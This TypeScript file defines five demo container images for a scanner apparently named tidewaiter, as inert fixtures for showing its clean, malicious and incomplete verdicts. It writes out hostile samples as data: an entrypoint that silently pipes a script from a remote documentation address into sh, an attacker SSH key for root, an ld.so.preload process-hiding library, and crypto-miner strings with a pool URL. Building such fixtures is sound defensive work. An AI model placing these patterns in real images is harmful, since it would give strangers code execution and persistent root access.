/** The five images of `tidewaiter demo`, as specifications. All inert: dead programs, documentation addresses, no payload. */
import type { Assessment } from '../../core/verdict.ts';
import type { TarEntrySpec } from '../../formats/tar-writer.ts';
import type { ImageSpec } from '../../image/oci-layout-writer.ts';
import { deadProgram } from './dead-program.ts';

export interface DemoImage {
  readonly name: string;
  /** What a person should know about it, one line. */
  readonly about: string;
  readonly announced: Assessment;
  readonly image: ImageSpec;
  /** Cut this many bytes off the end of the topmost layer's blob after writing, as a broken copy does. */
  readonly cutBytes?: number;
}

const executable = 0o755;

/** A small but honest base: what every image of the demo stands on. */
const base: readonly TarEntrySpec[] = [
  { path: 'bin', type: 'directory', mode: executable },
  { path: 'bin/hello', mode: executable, content: deadProgram(['hello from the demo']) },
  { path: 'etc', type: 'directory', mode: executable },
  { path: 'etc/os-release', content: 'NAME="Demo Linux"\nID=demo\nVERSION_ID=1\n' },
  { path: 'etc/passwd', content: 'root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/home/app:/sbin/nologin\n' },
  { path: 'usr/share/doc/hello/README', content: 'Prints a greeting and ends.\n' },
];

const history = 'COPY rootfs/ / # base of the demo';

const clean: DemoImage = {
  name: 'clean',
  about: 'a program, its documentation, nothing else',
  announced: 'clean',
  image: {
    layers: [{ entries: base, createdBy: history }],
    config: { config: { Entrypoint: ['/bin/hello'], User: 'app', WorkingDir: '/' } },
  },
};

/** Words are put together here, so that our own program does not carry what its rules look for. */
const word = (...parts: readonly string[]): string => parts.join('');

/** The marks of a miner without the miner: a program that ends at once, and strings that only a miner carries. */
const minerMarks: readonly string[] = [
  'XMRig 6.0.0-demo',
  'Usage: xmrig [OPTIONS]',
  word('  -o, --url=URL                 URL of ', 'mining server'),
  word('      --donate', '-level=N          donate level, default 1%'),
  word('      --random', 'x-mode=MODE       RandomX mode: auto, fast, light'),
  word('      --nice', 'hash                enable nicehash.com support'),
  word('stratum', '+tcp://pool.demo.example:3333'),
  '{"method":"login","params":{"login":"%s","pass":"%s","agent":"%s","algo":["rx/0"]}}',
  'cryptonight',
  'randomx',
  'hashrate',
  'job_id',
  'mining.subscribe',
  'mining.authorize',
];

const deletedMiner: DemoImage = {
  name: 'deleted-miner',
  about: 'a miner in a lower layer, deleted by the next one: `ls` would not show it',
  announced: 'malicious',
  image: {
    layers: [
      { entries: base, createdBy: history },
      {
        entries: [{ path: 'usr/local/bin/kworkerd', mode: executable, content: deadProgram(minerMarks) }],
        createdBy: 'COPY kworkerd /usr/local/bin/',
      },
      { entries: [{ path: 'usr/local/bin/kworkerd', type: 'deletion' }], createdBy: 'RUN rm /usr/local/bin/kworkerd' },
    ],
    config: { config: { Entrypoint: ['/bin/hello'], User: 'app' } },
  },
};

const fetchAndRun: DemoImage = {
  name: 'fetch-and-run',
  about: 'an entrypoint that downloads a script and runs it: the payload is not in the image',
  announced: 'malicious',
  image: {
    layers: [
      { entries: base, createdBy: history },
      {
        entries: [
          {
            path: 'entrypoint.sh',
            mode: executable,
            content:
              '#!/bin/sh\nset +e\ncurl -fsSL http://192.0.2.10/setup.sh | sh >/dev/null 2>&1 &\nexec /bin/hello "$@"\n',
          },
        ],
        createdBy: 'COPY entrypoint.sh /',
      },
    ],
    config: { config: { Entrypoint: ['/entrypoint.sh'] } },
  },
};

const plantedKey: DemoImage = {
  name: 'planted-key',
  about: "a stranger's SSH key for root, and a library forced into every program",
  announced: 'malicious',
  image: {
    layers: [
      { entries: base, createdBy: history },
      {
        entries: [
          { path: 'root/.ssh', type: 'directory', mode: 0o700 },
          {
            path: 'root/.ssh/authorized_keys',
            mode: 0o600,
            content:
              'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDEMODEMODEMODEMODEMODEMODEMODEMODEMODEMODEMO stranger@demo.example\n',
          },
          { path: 'etc/ld.so.preload', content: '/usr/local/lib/libprocesshider.so\n' },
          {
            path: 'usr/local/lib/libprocesshider.so',
            mode: executable,
            content: deadProgram([
              'libprocesshider.so',
              'readdir64',
              'readdir',
              word('/proc/self/', 'fd/%d'),
              word('/proc/', '%s/stat'),
              word('process_', 'to_filter'),
              'dlsym',
              'RTLD_NEXT',
            ]),
          },
        ],
        createdBy: 'COPY overlay/ /',
      },
    ],
    config: { config: { Entrypoint: ['/bin/hello'], User: 'app' } },
  },
};

const truncated: DemoImage = {
  name: 'truncated',
  about: 'a layer that ends too early: what was not seen is said, and nothing is called clean',
  announced: 'incomplete',
  cutBytes: 120,
  image: {
    layers: [
      { entries: base, createdBy: history },
      {
        entries: [
          {
            path: 'opt/app/data',
            content: Uint8Array.from({ length: 4096 }, (_, index) => (index * index * 31 + index) & 255),
          },
        ],
        createdBy: 'COPY data /opt/app/',
      },
    ],
    config: { config: { Entrypoint: ['/bin/hello'], User: 'app' } },
  },
};

export const demoImages: readonly DemoImage[] = [clean, deletedMiner, fetchAndRun, plantedKey, truncated];
